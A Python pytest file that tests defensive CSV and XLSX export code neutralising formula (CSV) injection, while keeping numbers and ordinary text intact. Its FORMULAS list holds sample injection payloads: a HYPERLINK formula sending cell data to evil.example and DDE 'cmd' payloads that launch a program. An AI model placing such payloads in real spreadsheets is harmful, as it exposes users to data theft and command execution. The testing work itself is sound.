"""Cells written for Excel and WPS are shown, never run (OWASP, CSV injection; issue #12,
finding 4): a text starting with = + - @, a tab or a carriage return gets an apostrophe in
CSV and is a text cell in XLSX; numbers stay numbers."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from scf.platform.spreadsheets import csv_cell, csv_row, xlsx_row

FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"详情")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_csv_cell_starting_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["-12.50", "+3", "-0.5", "1000000.00", 12, -7, Decimal("-5.00"), None, "", "唐山=甲公司"],
)
def test_numbers_and_ordinary_text_are_written_as_they_are(value: object) -> None:
    assert csv_cell(value) == value


def test_a_csv_row_neutralises_each_cell() -> None:
    assert csv_row([2, "=1+1", "甲公司", "-1"]) == [2, "'=1+1", "甲公司", "-1"]


def written(values: list[object], *, write_only: bool) -> list[object]:
    """The cells as Excel reads them back: (data type, value, quote prefix)."""
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    assert sheet is not None
    sheet.append(xlsx_row(sheet, values))
    out = io.BytesIO()
    book.save(out)
    cells = next(iter(load_workbook(io.BytesIO(out.getvalue()))["s" if write_only else "Sheet"]))
    return [(cell.data_type, cell.value, cell.quotePrefix) for cell in cells]


@pytest.mark.parametrize("write_only", [True, False])
@pytest.mark.parametrize("text", FORMULAS)
def test_an_xlsx_cell_starting_like_a_formula_is_text_not_a_formula(
    text: str, write_only: bool
) -> None:
    """Stored as a string with Excel's quote prefix (the apostrophe Excel itself adds);
    reading XML turns a carriage return into a line feed, as any XML reader does."""
    assert written([text], write_only=write_only) == [("s", text.replace("\r", "\n"), True)]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_numbers_stay_numbers_and_text_stays_text(write_only: bool) -> None:
    values = [2, Decimal("2.50"), 1.5, "-12.50", "甲公司"]
    assert written(values, write_only=write_only) == [
        ("n", 2, False),
        ("n", 2.5, False),
        ("n", 1.5, False),
        ("s", "-12.50", False),
        ("s", "甲公司", False),
    ]


def test_a_control_character_cannot_break_the_xlsx_export() -> None:
    """openpyxl refuses U+0001 in a cell; the report shows U+FFFD in its place instead of failing."""
    assert written(["甲\x01公司"], write_only=True) == [("s", "甲\ufffd公司", False)]
